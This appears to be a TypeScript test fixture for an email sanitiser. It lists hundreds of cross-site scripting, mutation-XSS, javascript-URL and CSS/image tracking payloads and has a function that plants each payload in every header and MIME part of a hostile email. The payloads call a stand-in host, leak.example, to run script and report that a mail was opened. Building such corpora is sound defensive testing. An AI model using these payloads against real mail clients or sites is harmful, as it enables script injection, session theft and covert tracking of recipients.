// What a mail may carry that wants to run, or to tell another host that it was opened. Written for these tests; the ways
// are those that browsers and sanitisers are known to have met (HTML Living Standard; MDN on each element).

/** Sets a mark that the test looks for, and asks a host that nobody may ask. */
const RUN = "top.hacked=1;fetch('//leak.example/run')";
/** RUN, where neither quotes nor brackets can stand. */
const RUN_PLAIN = 'top.hacked=1';
const LEAK = 'http://leak.example/open';

/** Scripts, in the many ways of writing one. */
const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//leak.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script >`,
  `<script\n>${RUN}</script\t\n>`,
  `<script type=module>${RUN}</script>`,
  `<script type=text/vbscript>msgbox 1</script>`,
  `<<script>${RUN};//<</script>`,
  `<script>${RUN}`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN_PLAIN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<script>\u2028${RUN}</script>`,
  `<noscript><script>${RUN}</script></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

/** Elements that have something to say as soon as they are there. */
const events: string[] = [];
for (const [element, names] of [
  ['img src=x', ['onerror', 'OnError', 'onload', 'onloadstart']],
  ['svg', ['onload', 'onbegin']],
  ['body', ['onload', 'onpageshow', 'onhashchange', 'onresize', 'onscroll']],
  ['iframe', ['onload', 'onerror']],
  ['input autofocus', ['onfocus', 'onblur', 'oninput', 'onselect']],
  ['textarea autofocus', ['onfocus']],
  ['select autofocus', ['onfocus']],
  ['button autofocus', ['onfocus', 'onclick']],
  ['details open', ['ontoggle']],
  ['video src=x autoplay', ['onerror', 'oncanplay', 'onloadstart']],
  ['audio src=x', ['onerror', 'onloadstart']],
  ['video><source', ['onerror']],
  ['object data=x', ['onerror', 'onload']],
  ['embed src=x', ['onload', 'onerror']],
  ['marquee', ['onstart', 'onbounce', 'onfinish']],
  ['div style="animation:x 1s"', ['onanimationstart', 'onanimationend']],
  ['div tabindex=1 autofocus', ['onfocus', 'onfocusin']],
  ['p contenteditable autofocus', ['onfocus', 'onmouseenter', 'onpointerover', 'onwheel', 'oncopy']],
  ['dialog open', ['onclose', 'oncancel']],
  ['div popover', ['onbeforetoggle']],
  ['link rel=stylesheet href=x', ['onerror', 'onload']],
  ['style', ['onload']],
  ['track', ['onerror']],
  ['image src=x', ['onerror']],
] as const) {
  for (const name of names) events.push(`<${element} ${name}="${RUN}">`);
}

/** Attributes written so that a careless reader overlooks them. */
const disguised = [
  `<img/src=x/onerror=${RUN_PLAIN}>`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `<img src="x" \x0bonerror="${RUN}">`,
  `<img src=x onerror\x00="${RUN}">`,
  `<img """><script>${RUN}</script>">`,
  `<img src='x'onerror='${RUN_PLAIN}'>`,
  `<img src=x onerror=&#x74;op.hacked&#61;1>`,
  `<img src=\`x\` onerror=\`${RUN_PLAIN}\`>`,
  `<a title="x" / onmouseover="${RUN}" style=position:fixed;inset:0>x</a>`,
  `<p title='</p><img src=x onerror=${RUN_PLAIN}>'>x</p>`,
  `<img src=x alt="--><script>${RUN}</script>">`,
  `<!--><img src=x onerror=${RUN_PLAIN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN_PLAIN}>]]>`,
  `<?xml version="1.0"?><?x ><img src=x onerror=${RUN_PLAIN}>?>`,
  `<!DOCTYPE x [<!ENTITY e "<script>${RUN}</script>">]>&e;`,
];

/** Addresses that are programs. */
const addresses: string[] = [];
for (const address of [
  `javascript:${RUN_PLAIN}`,
  `JaVaScRiPt:${RUN_PLAIN}`,
  ` \t javascript:${RUN_PLAIN}`,
  `java\tscript:${RUN_PLAIN}`,
  `java&#10;script:${RUN_PLAIN}`,
  `javascript&colon;${RUN_PLAIN}`,
  `&#106;avascript:${RUN_PLAIN}`,
  `\x01javascript:${RUN_PLAIN}`,
  `javascript://leak.example/%0a${RUN_PLAIN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN_PLAIN}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN_PLAIN}'/>`,
  `blob:null/00000000-0000-0000-0000-000000000000`,
  `view-source:javascript:${RUN_PLAIN}`,
  `feed:javascript:${RUN_PLAIN}`,
]) {
  addresses.push(`<a href="${address}">x</a><iframe src="${address}"></iframe>`);
}
const targets = [
  `<form action="javascript:${RUN_PLAIN}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${RUN_PLAIN}">x</button>`,
  `<object data="javascript:${RUN_PLAIN}"></object>`,
  `<embed src="javascript:${RUN_PLAIN}">`,
  `<area href="javascript:${RUN_PLAIN}">`,
  `<math href="javascript:${RUN_PLAIN}">x</math>`,
  `<svg><a xlink:href="javascript:${RUN_PLAIN}"><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN_PLAIN} /><text>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${RUN_PLAIN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN_PLAIN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${RUN_PLAIN}&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN_PLAIN}">`,
  `<meta http-equiv=refresh content="0;url=${LEAK}">`,
  `<base href="javascript:/x/"><a href="..">x</a>`,
  `<base href="//leak.example/"><img src=y>`,
  `<frameset onload="${RUN}"><frame src="${LEAK}"></frameset>`,
  `<a href="${LEAK}" ping="${LEAK}" target=_top>x</a>`,
  `<isindex action=javascript:${RUN_PLAIN} type=image>`,
];

/** What a parser makes of it after it was cleaned and read again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN_PLAIN}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN_PLAIN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN_PLAIN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN_PLAIN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN_PLAIN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN_PLAIN}>">`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN_PLAIN}>">`,
  `<plaintext><img title="</plaintext><img src=x onerror=${RUN_PLAIN}>">`,
  `<iframe><img title="</iframe><img src=x onerror=${RUN_PLAIN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN_PLAIN}>">`,
  `<style><img title="</style><img src=x onerror=${RUN_PLAIN}>">`,
  `<svg><title><style><img title="</style></title></svg><img src=x onerror=${RUN_PLAIN}>">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<table><td><svg><desc><img src=x onerror=${RUN_PLAIN}></desc></svg></td></table>`,
  `<select><option><img src=x onerror=${RUN_PLAIN}></select>`,
  `<p id=getElementById name=body><img name=hydrated><form id=document><input name=attributes></form>`,
];

/** What tells another host that the mail was opened. */
const leaks = [
  `<img src="${LEAK}">`,
  `<img srcset="${LEAK} 1x, ${LEAK}2 2x">`,
  `<picture><source srcset="${LEAK}"><img></picture>`,
  `<img src="//leak.example/open">`,
  `<img src="cid:none" longdesc="${LEAK}" lowsrc="${LEAK}" dynsrc="${LEAK}">`,
  `<input type=image src="${LEAK}">`,
  `<video poster="${LEAK}"></video>`,
  `<video src="${LEAK}" autoplay></video>`,
  `<audio src="${LEAK}" preload=auto></audio>`,
  `<object data="${LEAK}"></object>`,
  `<embed src="${LEAK}">`,
  `<iframe src="${LEAK}"></iframe>`,
  `<body background="${LEAK}">`,
  `<table background="${LEAK}"><td background="${LEAK}">x</table>`,
  `<link rel=stylesheet href="${LEAK}">`,
  `<link rel=preload as=image href="${LEAK}">`,
  `<link rel=dns-prefetch href="//leak.example">`,
  `<link rel=preconnect href="//leak.example">`,
  `<link rel=prefetch href="${LEAK}">`,
  `<link rel=icon href="${LEAK}">`,
  `<link rel=manifest href="${LEAK}">`,
  `<style>@import "${LEAK}";</style>`,
  `<style>@import url(${LEAK});body{background:url(${LEAK})}</style>`,
  `<style>@font-face{font-family:x;src:url(${LEAK})}*{font-family:x}</style>`,
  `<style>*{cursor:url(${LEAK}),auto;list-style-image:url(${LEAK})}</style>`,
  `<style>p::before{content:url(${LEAK})}</style><p>x</p>`,
  `<p style="background:url(${LEAK})">x</p>`,
  `<p style="background:u\\72l(${LEAK})">x</p>`,
  `<p style="background-image:image-set('${LEAK}' 1x)">x</p>`,
  `<p style="list-style:url('${LEAK}');display:list-item">x</p>`,
  `<p style="width:expression(${RUN_PLAIN});behavior:url(${LEAK});-moz-binding:url(${LEAK})">x</p>`,
  `<p style="mask:url(${LEAK});filter:url(${LEAK}#x);border-image:url(${LEAK})">x</p>`,
  `<svg><image href="${LEAK}" width=9 height=9 /></svg>`,
  `<svg><image xlink:href="${LEAK}" width=9 height=9 /></svg>`,
  `<svg><filter id=f><feImage href="${LEAK}"/></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  `<svg><style>@import "${LEAK}";</style></svg>`,
  `<math><mglyph src="${LEAK}"></mglyph></math>`,
  `<track src="${LEAK}"><bgsound src="${LEAK}"><layer src="${LEAK}"></layer>`,
  `<script src="${LEAK}"></script>`,
];

/** What is no tag, but might become one where text is put together. */
const texts = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN_PLAIN}>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN_PLAIN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN_PLAIN}+ADw-/script+AD4-`,
  `'-top.hacked-'`,
  `\${${RUN_PLAIN}}`,
  `{{constructor.constructor('${RUN_PLAIN}')()}}`,
  `javascript:${RUN_PLAIN}`,
  `http://leak.example/"onmouseover="${RUN_PLAIN}"x="`,
  `https://leak.example/<img/src=x/onerror=${RUN_PLAIN}>`,
  `x@example.org"><img src=x onerror=${RUN_PLAIN}>`,
  `\u202e<script>${RUN}</script>`,
  `<a href="mailto:x@example.org?subject=%0d%0aBcc:y@leak.example" onclick=${RUN_PLAIN}>x</a>`,
];

/** All of them. */
export const PAYLOADS = [
  ...scripts,
  ...events,
  ...disguised,
  ...addresses,
  ...targets,
  ...mutations,
  ...leaks,
  ...texts,
];

/** A mail that carries it in every place that a mail has. */
export function hostileMail(payload: string, n: number): string {
  const word = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
  // Encoded words hold 75 characters at most; readers put neighbours together again.
  const words = (text: string) => [...(text.match(/[^]{1,30}/gu) ?? [])].map(word).join('\n ');
  const percent = encodeURIComponent(payload).replace(/['()*]/g, (c) => `%${c.charCodeAt(0).toString(16)}`);
  const ascii = payload.replace(/[^\x20-\x7e]/g, '').replace(/["\\]/g, '\\$&');
  const base64 = (text: string) => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\n');
  const calendar = payload.replace(/\s/g, ' ').replace(/([,;\\])/g, '\\$1');
  return `From: ${words(payload)} <x${n}@example.org>
Reply-To: "${ascii}" <"${ascii.slice(0, 40).replace(/\\+$/, '')}"@example.org>
To: ${words(payload)}: jobs@company.localhost;
Cc: "${ascii}" <cc@example.org>
Subject: ${words(`${n} ${payload}`)}
Message-ID: <${n}.payload@example.org>
List-Id: ${words(payload)} <list.example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${base64(`<p>Before</p>${payload}<p>After</p>`)}
--b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

${base64(payload)}
--b
Content-Type: text/calendar; charset=utf-8; method=REQUEST
Content-Transfer-Encoding: base64

${base64(`BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:${n}\r\nSUMMARY:${calendar}\r\nLOCATION:${calendar}\r\nORGANIZER;CN="${calendar.replace(/"/g, "'")}":mailto:x@example.org\r\nDTSTART:20261201T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`)}
--b
Content-Type: message/rfc822

From: ${words(payload)} <y@example.org>
Subject: ${words(payload)}
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

${base64(payload)}
--b
Content-Type: text/html; name*=utf-8''${percent}.html
Content-Disposition: attachment; filename*=utf-8''${percent}.html
Content-Transfer-Encoding: base64

${base64(payload)}
--b--
`;
}
